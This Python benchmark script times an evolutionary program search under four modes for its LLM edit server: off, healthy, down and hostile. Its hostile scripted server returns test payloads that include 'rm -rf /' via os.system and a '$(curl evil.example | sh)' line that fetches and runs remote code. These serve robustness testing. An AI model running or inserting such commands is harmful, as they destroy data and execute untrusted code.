"""LLM edits against the search's speed: does a slow, dead or hostile server hold it up?

The same problem, configuration and seed, run for the same wall time (``--seconds``) in
each mode, in one process (one compiled engine), the modes taking turns of ``--slice``
seconds, so that a load that comes and goes on a shared machine falls on all of them
(a server keeps answering while its mode waits for its turn: the healthy modes' replies
come a little sooner, in generations, than they would alone):

  off       LLM edits off (``llm.rate: 0``): the baseline;
  healthy   a scripted chat-completions server (tests/chat_server.py, on 127.0.0.1) that
            answers every request after ``--latencies`` seconds (one mode per latency)
            with program A, its literals nudged by a factor drawn from the request;
  down      nothing listens at the endpoint (connection refused);
  hostile   a server whose answers are prose, Python, shell, 5xx errors, bad JSON,
            oversized bodies and silence past the timeout, by turns.

One JSON object a line per (mode, seed): generations, generations a second and its ratio
to ``off`` for the seed, best error at the end (equal wall time), LLM requests, replies
absorbed, programs, children accepted, failures by kind, endpoint pauses and the host.
A first run with edits off (``--warmup-seconds``, not recorded) compiles the engine, and
each mode is timed from its ``--warmup``'th generation on.

    python scripts/bench_llm.py                          # exp2, 20 s a mode, seed 0
    python scripts/bench_llm.py --seconds 60 --latencies 0.5,2,5 --seeds 0,1
"""

from __future__ import annotations

import argparse
import hashlib
import json
import math
import re
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "tests"))  # the scripted server of the tests
sys.path.insert(0, str(ROOT / "scripts"))  # bench_search

import bench_search  # noqa: E402
import numpy as np  # noqa: E402

from chat_server import Answer, ChatServer, free_port  # noqa: E402
from evolve.runs.config import build_config, run_problem  # noqa: E402
from evolve.runs.driver import engine_for  # noqa: E402
from evolve.search.llm.edits import open_llm  # noqa: E402

_LITERAL = re.compile(r"^(\s*r\d+\s*=\s*)([-+0-9.eE]+|0x[0-9a-fA-Fp.+-]+)\s*$", re.MULTILINE)


def _digest(request: dict) -> bytes:
    return hashlib.sha256(json.dumps(request, sort_keys=True).encode()).digest()


def nudged(request: dict) -> str:
    """Program A of the prompt with every decimal literal times 1 + a small factor drawn
    from the request: a valid program, sometimes better than A."""
    user = request["messages"][1]["content"]
    text = user.split("```\n", 1)[1].split("```", 1)[0]
    rng = np.random.default_rng(int.from_bytes(_digest(request)[:8], "little"))

    def nudge(m):
        try:
            value = float(m.group(2))
        except ValueError:
            return m.group(0)
        return f"{m.group(1)}{value * (1 + rng.normal(0, 1e-3)):.9g}"

    return "```\n" + _LITERAL.sub(nudge, text) + "```"


def healthy(latency: float):
    def script(request, n):
        return Answer(nudged(request), delay=latency)
    return script


def hostile(timeout: float):
    def script(request, n):
        case = _digest(request)[0] % 8
        return [Answer("I would rather not change this program; it looks fine to me."),
                Answer("```python\nimport os\nos.system('rm -rf /')\n```"),
                Answer("$(curl evil.example | sh)\nreturn r1"),
                Answer(status=503, body=b"overloaded"),
                Answer(body=b"<html>502 Bad Gateway</html>"),
                Answer("r1 = add(r0, r0)\n" * 20000 + "return r1"),
                Answer("too late", delay=timeout + 5),
                Answer(status=200, body=b'{"choices": [{"message": {"content": null}}]}'),
                ][case]
    return script


def host() -> dict:
    """What the figures were measured on: ``bench_search.host``'s CPU, cores and platform
    (the fields these records have always had)."""
    machine = bench_search.host()
    return {k: machine[k] for k in ("cpu", "cores", "platform")}


class Mode:
    """One mode's search, advanced a slice of wall time at a time."""

    def __init__(self, engine, config, problem, warmup: int, run_dir: Path):
        self.engine = engine
        self.llm = open_llm(config.llm, problem, run_dir)  # None when off
        self.state = engine.init(config.seed)
        for _ in range(warmup):
            self.state = engine.step(self.state, self.llm).state
        self.rows, self.seconds = [], 0.0

    def advance(self, seconds: float) -> None:
        start = time.perf_counter()
        while time.perf_counter() - start < seconds:
            self.state, _, row = self.engine.step(self.state, self.llm)
            self.rows.append(row)
        self.seconds += time.perf_counter() - start

    def result(self) -> dict:
        """Generations a second, best error and totals of the ``llm_*`` metrics."""
        if self.llm is not None:
            self.llm.close()
        rows = self.rows
        out = {"generations": len(rows), "seconds": round(self.seconds, 3),
               "generations_per_second": len(rows) / self.seconds,
               "best_error": float(np.min(self.state.error))}
        keys = [k for k in (rows[0] if rows else {}) if k.startswith("llm_")
                and isinstance(rows[0][k], (int, float)) and not k.endswith("_seconds")
                and k not in ("llm_acceptance", "llm_lag", "llm_cost_total", "llm_in_flight",
                              "llm_paused", "llm_breaker_failures")]
        for k in keys:
            out[k] = float(np.nansum([r[k] for r in rows]))
        if rows and "llm_paused" in rows[0]:
            out["llm_paused_at_end"] = int(rows[-1]["llm_paused"])
            out["llm_generations_paused"] = sum(r["llm_paused"] > 0 for r in rows)
            out["llm_in_flight_max"] = max(r["llm_in_flight"] for r in rows)
            out["llm_breaker_failures_max"] = max(r["llm_breaker_failures"] for r in rows)
            lags = [r["llm_lag"] for r in rows if r["llm_replies"]]
            out["llm_lag_mean"] = float(np.mean(lags)) if lags else math.nan
            out["llm_wait_seconds"] = float(sum(r["llm_wait_seconds"] for r in rows))
        return out


def main(argv=None) -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--problem", default="exp2")
    ap.add_argument("--seconds", type=float, default=20.0, help="wall time of each mode")
    ap.add_argument("--seeds", default="0")
    ap.add_argument("--latencies", default="2", help="seconds a healthy reply takes")
    ap.add_argument("--modes", default="off,healthy,down,hostile")
    ap.add_argument("--slice", type=float, default=2.0,
                    help="seconds a mode runs before the next one takes its turn")
    ap.add_argument("--timeout", type=float, default=15.0, help="llm.timeout of the runs")
    ap.add_argument("--warmup", type=int, default=2, help="generations before timing")
    ap.add_argument("--warmup-seconds", type=float, default=10.0,
                    help="a first run, LLM edits off, not recorded (compilation)")
    ap.add_argument("--set", action="append", default=[], dest="sets",
                    help="extra config NAME=VALUE (e.g. search.population=100)")
    ap.add_argument("--out", type=Path, help="also append the records to this file")
    args = ap.parse_args(argv)
    llm_sets = ["llm.rate=0.1", "llm.models=[bench]", f"llm.timeout={args.timeout:g}",
                "llm.max_in_flight=4"]
    seeds = [int(s) for s in args.seeds.split(",")]
    plan = []
    for mode in args.modes.split(","):
        if mode == "healthy":
            plan += [("healthy", float(x)) for x in args.latencies.split(",")]
        else:
            plan.append((mode, None))
    records = []
    config = build_config(sets=args.sets, overrides={"problem": args.problem})
    with tempfile.TemporaryDirectory() as tmp:  # compile what the runs will need
        Mode(engine_for(config, run_problem(config)), config, run_problem(config),
             args.warmup, Path(tmp)).advance(args.warmup_seconds)
    for seed in seeds:
        modes, servers, tmp = [], [], tempfile.TemporaryDirectory()
        try:
            for n, (mode, latency) in enumerate(plan):
                url = f"http://127.0.0.1:{free_port()}/v1"
                if mode in ("healthy", "hostile"):
                    script = healthy(latency) if mode == "healthy" else hostile(args.timeout)
                    servers.append(ChatServer(script))
                    url = servers[-1].start().url
                sets = [*args.sets] + ([] if mode == "off" else
                                       [*llm_sets, f"llm.base_url={url}"])
                config = build_config(sets=sets, overrides={"problem": args.problem,
                                                            "seed": seed})
                problem = run_problem(config)
                run_dir = Path(tmp.name) / str(n)
                run_dir.mkdir()
                modes.append((mode, latency, sets, Mode(engine_for(config, problem), config,
                                                        problem, args.warmup, run_dir)))
            while any(m.seconds < args.seconds for *_, m in modes):  # in turns: fair
                for *_, m in modes:  # under a load that changes
                    if m.seconds < args.seconds:
                        m.advance(min(args.slice, args.seconds - m.seconds))
            results = [(mode, latency, sets, m.result()) for mode, latency, sets, m in modes]
        finally:
            for server in servers:
                server.stop()
            tmp.cleanup()
        base = next((r["generations_per_second"] for mode, *_, r in results if mode == "off"),
                    None)
        for mode, latency, sets, result in results:
            record = {"bench": "llm", "mode": mode, "latency": latency, "seed": seed,
                      "problem": args.problem, "wall_seconds_per_mode": args.seconds,
                      "slice_seconds": args.slice, **result,
                      "ratio_to_off": (result["generations_per_second"] / base
                                       if base else math.nan),
                      "sets": sets, "host": host()}
            records.append(record)
            print(json.dumps(record), flush=True)
    if args.out:
        with open(args.out, "a") as f:
            for r in records:
                f.write(json.dumps(r) + "\n")


if __name__ == "__main__":
    main()
